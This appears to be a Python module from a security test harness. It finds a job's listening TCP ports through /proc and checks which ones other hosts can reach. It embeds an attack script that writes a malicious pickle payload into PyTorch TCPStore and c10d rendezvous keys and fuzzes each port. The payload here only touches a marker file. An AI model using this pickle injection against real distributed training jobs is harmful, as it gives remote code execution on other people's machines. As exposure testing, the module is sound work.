"""Which ports the processes of a job hold open, as /proc tells, and what reaches them."""

import dataclasses
import ipaddress
import os
import re
import socket
import struct
import subprocess
import sys
from collections.abc import Iterable, Iterator
from pathlib import Path

LISTENING = "0A"  # the state, as /proc/net/tcp writes it

CONNECT = """
import socket, sys
for port in sys.argv[2:]:
    try:
        socket.create_connection((sys.argv[1], int(port)), timeout=3).close()
        print(port)
    except OSError:
        pass
"""
# Writes what runs code when it is un-pickled under each key of the store at the first port, and
# under those of torchrun's c10d rendezvous; then bytes of all kinds to every port.
ATTACK = """
import base64, datetime, json, os, pickle, random, socket, sys
import torch.distributed as dist
host, ports, job_ids, marker = sys.argv[1], *map(json.loads, sys.argv[2:4]), sys.argv[4]

class Payload:
    def __reduce__(self):
        return os.system, ("touch " + marker,)

raw = pickle.dumps(Payload())
forms = (raw, base64.b64encode(raw))
store = dist.TCPStore(
    host, ports[0], is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=20)
)
keys = {*store.list_keys(), *(f"/torch.rendezvous.{job_id}" for job_id in job_ids)}
for key in keys:
    store.set(key, forms[1])
print("wrote", len(keys), "keys", flush=True)
draw = random.Random(0)
for port in ports:
    for form in (*forms, *(draw.randbytes(1 << n) for n in range(0, 16, 3))):
        try:
            with socket.create_connection((host, port), timeout=3) as link:
                link.sendall(form)
        except OSError:
            pass
"""


@dataclasses.dataclass(frozen=True, order=True)
class Listener:
    """A listening TCP socket."""

    address: str
    port: int

    @property
    def is_loopback(self) -> bool:
        """Whether only this host reaches it."""
        return ipaddress.ip_address(self.address).is_loopback


def listeners(pid: int) -> list[Listener]:
    """Those of a process and of all below it."""
    found = {entry for member in _tree(pid) for entry in _listeners_of(member)}
    return sorted(found)


def reachable(prefix: Iterable[str], address: str, ports: Iterable[int]) -> list[int]:
    """Which ports of an address answer, asked with a command's prefix from another host."""
    words = [*prefix, sys.executable, "-S", "-c", CONNECT, address, *map(str, ports)]
    done = subprocess.run(words, capture_output=True, text=True, timeout=60, check=True)
    return [int(word) for word in done.stdout.split()]


def _tree(pid: int) -> list[int]:
    found = [pid]
    for member in found:  # grows while it is read
        for path in Path("/proc").glob(f"{member}/task/*/children"):
            found += [int(word) for word in path.read_text().split()]
    return found


def _listeners_of(pid: int) -> Iterator[Listener]:
    inodes = set()
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        try:
            match = re.fullmatch(r"socket:\[(\d+)\]", os.readlink(entry))
        except FileNotFoundError:
            continue
        inodes |= {match[1]} if match else set()
    for name in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:]:
            place, state, inode = (line.split()[index] for index in (1, 3, 9))
            if state == LISTENING and inode in inodes:
                address, _, port = place.partition(":")
                yield Listener(_address_of(address), int(port, 16))


def _address_of(text: str) -> str:
    """From the kernel's words of 32 bits in the machine's byte order."""
    words = [int(text[start : start + 8], 16) for start in range(0, len(text), 8)]
    packed = b"".join(struct.pack("=I", word) for word in words)
    return socket.inet_ntop(socket.AF_INET if len(words) == 1 else socket.AF_INET6, packed)
